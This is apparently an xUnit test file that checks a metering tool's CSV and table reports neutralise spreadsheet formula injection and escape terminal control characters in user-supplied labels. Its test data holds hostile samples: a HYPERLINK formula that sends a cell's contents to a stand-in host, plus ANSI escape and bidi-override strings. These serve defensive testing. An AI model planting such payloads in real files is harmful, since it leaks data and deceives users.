using Metering.Collector.Points;
using Metering.Collector.Reports;

namespace Metering.Collector.Tests.Reports;

/// <summary>
/// Reports whose labels were written by someone hostile (a job's name, user, project, model come from whoever started
/// it): the CSV cannot run a formula in a spreadsheet, and no output carries a control character to the terminal.
/// </summary>
public sealed class HostileLabelTests
{
    public static TheoryData<string, string> Formulas => new()
    {
        { "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" },
        { "=1+2", "'=1+2" },
        { "+1+2", "'+1+2" },
        { "-2+3", "'-2+3" },
        { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
        { "\t=1+2", "\\t=1+2" },
        { "\r=1+2", "\\r=1+2" },
        { "nlp=1", "nlp=1" },
        { "a-b", "a-b" },
    };

    [Theory]
    [MemberData(nameof(Formulas))]
    public void A_csv_cell_that_a_spreadsheet_would_read_as_a_formula_is_neutralised(string project, string expected)
    {
        var records = Csv.Parse(CsvRenderer.Render(ReportOf(Row(project: project))));

        var row = CsvRenderer.Header.Zip(records[1]).ToDictionary(p => p.First, p => p.Second);
        Assert.Equal(expected, row["project"]);
    }

    [Fact]
    public void Every_text_column_of_the_csv_is_neutralised_and_the_figures_are_kept()
    {
        var row = Row(project: "=1+2") with { Label = "=cmd", Name = "+x", User = "-u", Model = "@m", Purpose = "=p", Nodes = ["=n"], Flags = ["=f"] };

        var cells = CsvRenderer.Header.Zip(Csv.Parse(CsvRenderer.Render(ReportOf(row)))[1]).ToDictionary(p => p.First, p => p.Second);

        Assert.Equal(["'=cmd", "'+x", "'-u", "'=1+2", "'@m", "'=p", "'=n", "'=f"],
            new[] { "job_id", "name", "user", "project", "model", "purpose", "nodes", "flags" }.Select(c => cells[c]));
        Assert.Equal("3600000", cells["it_mj"]);
    }

    public static TheoryData<string, string> Controls => new()
    {
        { "red\u001b[31mtext", "red\\u001B[31mtext" },
        { "two\nlines", "two\\nlines" },
        { "cr\roverwrite", "cr\\roverwrite" },
        { "bell\u0007", "bell\\u0007" },
        { "c1\u009bcsi", "c1\\u009Bcsi" },
        { "bidi\u202eevil", "bidi\\u202Eevil" },
        { "plain ascii, été", "plain ascii, été" },
    };

    [Theory]
    [MemberData(nameof(Controls))]
    public void Control_characters_in_labels_are_escaped_in_the_table_and_the_csv(string user, string expected)
    {
        var report = ReportOf(Row(project: "nlp") with { User = user });

        var table = TableRenderer.Render(report);
        var csv = CsvRenderer.Render(report);

        Assert.Contains(expected, table, StringComparison.Ordinal);
        Assert.Contains(expected, csv, StringComparison.Ordinal);
        Assert.DoesNotContain(table, c => PrintableText.IsUnsafe(c) && c != '\n');
        Assert.DoesNotContain(csv.Replace("\r\n", string.Empty, StringComparison.Ordinal), PrintableText.IsUnsafe);
        Assert.Equal(4, table.Split('\n').Length);   // header, rule, the row, and the empty string after the last '\n'
    }

    private static ReportRow Row(string project) => new()
    {
        Kind = RowKind.Job, Label = "api:1", Project = project, Source = "api", State = "completed", Nodes = ["gpu-a01"],
        StartMs = 1_740_000_000_000, EndMs = 1_740_000_060_000, DurationMs = 60_000, ItMillijoules = 3_600_000,
        FacilityMillijoules = 3_600_000, Method = "allocation", Coverage = 1,
    };

    private static Report ReportOf(ReportRow row) =>
        new(new ReportRequest(ReportKind.Job, row.Label, ReportRequest.Unbounded, long.MaxValue), [row], null, [], []);
}
